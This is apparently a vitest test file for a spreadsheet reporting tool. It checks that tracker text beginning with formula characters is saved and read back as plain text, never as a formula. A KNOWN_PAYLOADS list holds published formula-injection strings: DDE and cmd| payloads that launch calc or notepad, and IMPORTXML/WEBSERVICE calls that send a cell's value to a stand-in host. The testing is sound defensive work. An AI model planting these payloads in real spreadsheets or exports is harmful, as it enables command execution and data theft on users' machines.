/**
 * Formula injection: text a tracker holds (review names, numbers, categories, recommendations,
 * actions, responses, leads, ratings) is copied into every generated sheet (RAG Summary, Stale
 * Actions, Committee Pack, RAG History). Whatever it begins with (=, +, -, @, a tab, a carriage
 * return, spaces before =) and whatever it says (HYPERLINK, DDE, cmd|), it must come back as the
 * same text and never as a formula: through the file door (saved and opened again with ExcelJS)
 * and through the Excel door (written as text over the stand-in, which turns such text into a
 * formula unless the cell is formatted as text first, as Excel does). Both file doors, the
 * workbench's and the command line's streaming one, are checked, and their output read back both
 * with ExcelJS and with the streaming reader.
 */
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import ExcelJS from "exceljs";
import { cellText } from "../../src/core/cells";
import type { WritePlan } from "../../src/core/writePlan";
import { refCell } from "../../src/core/sheetBuilder";
import type { RagDoor, SheetsDoor } from "../../src/door/RagDoor";
import { generateSummary } from "../../src/door/operations";
import { generateCommitteePack, recordReport } from "../../src/door/historyOperations";
import { DEFAULT_SETTINGS } from "../../src/core/settings";
import { XlsxDoor } from "../../src/xlsx/XlsxDoor";
import { StreamingXlsxDoor } from "../../src/xlsx/streaming/StreamingXlsxDoor";
import { ExcelDoor } from "../../src/excel/ExcelDoor";
import { fakeExcelFromXlsx } from "../helpers/fakeFromXlsx";
import type { FakeExcel } from "../fakes/fakeExcel";

/** Known payloads, as published for CSV and spreadsheet injection. */
export const KNOWN_PAYLOADS = [
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1",
  "-1",
  "=1+1",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
  "=WEBSERVICE(\"http://x\")",
  "@HYPERLINK(\"http://x\")",
  "＝1+1",
  "==1",
  "'=1+1",
  "-",
  "=",
];

/** Characters that start a formula, or hide one behind whitespace. */
const LEADERS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r=", " =", "  +", "\n=", "＝", "=="];

const payload = fc.oneof(
  fc.constantFrom(...KNOWN_PAYLOADS),
  fc.tuple(fc.constantFrom(...LEADERS), fc.string({ minLength: 1, maxLength: 24 })).map(([lead, rest]) => lead + rest),
);

/** The tracker's text columns, each filled with a payload. */
interface Texts {
  review: string;
  otherReview: string;
  ref: string;
  category: string;
  recommendation: string;
  actions: string;
  response: string;
  lead: string;
  rating: string;
}

const texts: fc.Arbitrary<Texts> = fc
  .record({ review: payload, otherReview: payload, ref: payload, category: payload, recommendation: payload, actions: payload, response: payload, lead: payload, rating: payload })
  // Each must still say something once whitespace is tidied, and the two reviews must differ.
  .filter((t) => Object.values(t).every((v) => cellText(v) !== "") && cellText(t.review) !== cellText(t.otherReview));

const HEADER = ["Review", "Rec No", "Category", "Recommendation", "Actions", "Response", "Lead", "Time scale", "Last updated", "RAG"];

/** Three actions: one stale and overdue (Amber, later Red), one with a rating that is itself a payload, one Blue. */
async function trackerBytes(t: Texts): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Plan");
  const old = new Date("2021-01-04T00:00:00Z");
  sheet.addRows([
    HEADER,
    [t.review, t.ref, t.category, t.recommendation, t.actions, t.response, t.lead, "June 2021", old, "Amber"],
    [t.otherReview, "2", t.category, t.recommendation, t.actions, t.response, t.lead, "June 2021", old, t.rating],
    [t.review, "3", t.category, "Share the learning brief", "Brief all partners", "Done.", t.lead, "June 2021", new Date("2021-10-20T00:00:00Z"), "Blue"],
  ]);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

/**
 * Runs the reporting cycle that fills every generated sheet, keeping each plan the door was given.
 * A door that edits cells moves the first action from Amber to Red before the pack, so the pack
 * lists it with its review, number and title; the command line's door edits no cell.
 */
async function reportingCycle(door: SheetsDoor & Partial<Pick<RagDoor, "applyEdits">>): Promise<{ plans: WritePlan[]; names: Map<string, string> }> {
  const plans: WritePlan[] = [];
  const apply = door.applyPlan.bind(door);
  door.applyPlan = async (plan) => {
    plans.push(plan);
    return apply(plan);
  };
  await door.writeSettings({ ...DEFAULT_SETTINGS, asOf: "2021-11-01" });
  await recordReport(door, undefined, "2021-06-01");
  await door.applyEdits?.([{ sheet: "Plan", row: 2, column: 10, from: "Amber", to: "Red" }]);
  const summary = await generateSummary(door);
  const pack = await generateCommitteePack(door, undefined, "2021-11-01");
  const names = new Map([...summary.sheets, ...pack.sheets].map((s) => [s.key, s.name]));
  return { plans, names };
}

/**
 * What a payload must look like wherever it was copied: the engine tidies whitespace in names. An
 * action number that is a number once tidied ("\t4") is written as the number, which is no formula.
 */
function mustAppear(t: Texts): string[] {
  const ref = cellText(t.ref);
  return [cellText(t.review), cellText(t.otherReview), cellText(t.category), cellText(t.lead), ...(refCell(ref).kind === "text" ? [ref] : []), t.actions.trim()];
}

interface GeneratedCell {
  sheet: string;
  row: number;
  column: number;
  text: string;
}

function planTexts(plans: WritePlan[], names: Map<string, string>): GeneratedCell[] {
  const out: GeneratedCell[] = [];
  for (const plan of plans) {
    for (const sheet of plan.sheets) {
      sheet.rows.forEach((row, r) =>
        row.forEach((cell, c) => {
          if (cell.kind === "text") out.push({ sheet: names.get(sheet.key)!, row: r + 1, column: c + 1, text: cell.value });
        }),
      );
    }
  }
  return out;
}

function expectPayloadsCopied(t: Texts, cells: GeneratedCell[]): void {
  const all = cells.map((c) => c.text);
  for (const text of mustAppear(t)) expect(all.some((v) => v.includes(text)), `"${text}" should be copied into a generated sheet`).toBe(true);
}

/** Through a file door (the workbench's or the command line's): saved, then opened with ExcelJS and with the streaming reader. */
async function fileDoorKeepsText(t: Texts, open: (bytes: Uint8Array) => Promise<SheetsDoor & { save(): Promise<Uint8Array> }>): Promise<void> {
  const door = await open(await trackerBytes(t));
  const { plans, names } = await reportingCycle(door);
  const cells = planTexts(plans, names);
  expectPayloadsCopied(t, cells);

  const saved = await door.save();
  const snapshot = await (await StreamingXlsxDoor.open(saved, "saved.xlsx")).read();
  for (const c of cells.filter((x) => x.text !== "")) {
    const sheet = snapshot.sheets.find((s) => s.name === c.sheet)!;
    expect(sheet.values[c.row - sheet.firstRow]?.[c.column - sheet.firstColumn], `${c.sheet} row ${c.row} column ${c.column}, streaming reader`).toBe(c.text);
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(saved as unknown as ArrayBuffer);
  for (const name of names.values()) {
    workbook.getWorksheet(name)!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${name}!${cell.address} must not be a formula`).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
  }
  for (const c of cells) {
    // findCell: ExcelJS's look-up that creates nothing.
    const saved = workbook.getWorksheet(c.sheet)!.findCell(c.row, c.column);
    const where = `${c.sheet} row ${c.row} column ${c.column}`;
    expect(saved?.type, where).toBe(ExcelJS.ValueType.String);
    expect(saved?.value, where).toBe(c.text);
  }
}

async function excelDoorKeepsText(t: Texts): Promise<void> {
  const excel: FakeExcel = await fakeExcelFromXlsx(await trackerBytes(t));
  const { plans, names } = await reportingCycle(new ExcelDoor(excel));
  const cells = planTexts(plans, names);
  expectPayloadsCopied(t, cells);
  for (const name of names.values()) {
    for (const cell of excel.get(name).cells.values()) expect(cell.formula, `${name} must hold no formula`).toBeUndefined();
  }
  for (const c of cells) {
    const cell = excel.get(c.sheet).cell(c.row, c.column);
    // An empty text is an empty cell in Excel.
    if (c.text === "") {
      expect(cell?.value).toBeUndefined();
      continue;
    }
    expect(cell?.formula).toBeUndefined();
    expect(cell?.numberFormat, `${c.sheet} row ${c.row} column ${c.column} is formatted as text`).toBe("@");
    expect(cell?.value, `${c.sheet} row ${c.row} column ${c.column}`).toBe(c.text);
  }
  // Read back as the add-in reads a sheet: the same text.
  const snapshot = await new ExcelDoor(excel).read();
  for (const c of cells.filter((x) => x.text !== "")) {
    const sheet = snapshot.sheets.find((s) => s.name === c.sheet)!;
    expect(sheet.values[c.row - sheet.firstRow]?.[c.column - sheet.firstColumn]).toBe(c.text);
  }
}

/** Every known payload in every text column at once, in turn. */
function everyKnownPayload(): Texts[] {
  return KNOWN_PAYLOADS.map((p, i) => {
    const next = KNOWN_PAYLOADS[(i + 1) % KNOWN_PAYLOADS.length]!;
    return { review: p, otherReview: `${next} (2)`, ref: p, category: p, recommendation: next, actions: p, response: p, lead: next, rating: p };
  }).filter((t) => Object.values(t).every((v) => cellText(v) !== ""));
}

describe.each([
  ["the workbench's file door (ExcelJS)", (bytes: Uint8Array) => XlsxDoor.open(bytes, "plan.xlsx")],
  ["the command line's streaming file door", (bytes: Uint8Array) => StreamingXlsxDoor.open(bytes, "plan.xlsx")],
])("formula injection through %s", (_, open) => {
  it("every known payload comes back as the same text, never a formula", async () => {
    for (const t of everyKnownPayload()) await fileDoorKeepsText(t, open);
  }, 60_000);

  it("any text beginning with a formula character comes back as the same text (fuzz)", async () => {
    await fc.assert(
      fc.asyncProperty(texts, (t) => fileDoorKeepsText(t, open)),
      // A counterexample a run found: an action number that is a number once its tab is tidied away.
      { numRuns: 15, examples: [[{ ...everyKnownPayload()[0]!, ref: "\t4" }]] },
    );
  }, 60_000);
});

describe("formula injection through the Excel door", () => {
  it("the stand-in is as strict as Excel: such text written into a cell not formatted as text becomes a formula", async () => {
    const excel = await fakeExcelFromXlsx(await trackerBytes(everyKnownPayload()[0]!));
    await excel.run(async (context) => {
      context.workbook.worksheets.getItem("Plan").getRange("K2:K3").values = [["=1+1"], ["@SUM(1+1)*cmd|' /C calc'!A0"]];
      await context.sync();
    });
    expect(excel.get("Plan").cell(2, 11)?.formula).toBe("=1+1");
    expect(excel.get("Plan").cell(3, 11)?.formula).toBeDefined();
  });

  it("every known payload is written as text and reads back the same", async () => {
    for (const t of everyKnownPayload()) await excelDoorKeepsText(t);
  }, 60_000);

  it("any text beginning with a formula character is written as text (fuzz)", async () => {
    await fc.assert(fc.asyncProperty(texts, excelDoorKeepsText), { numRuns: 30 });
  }, 60_000);
});
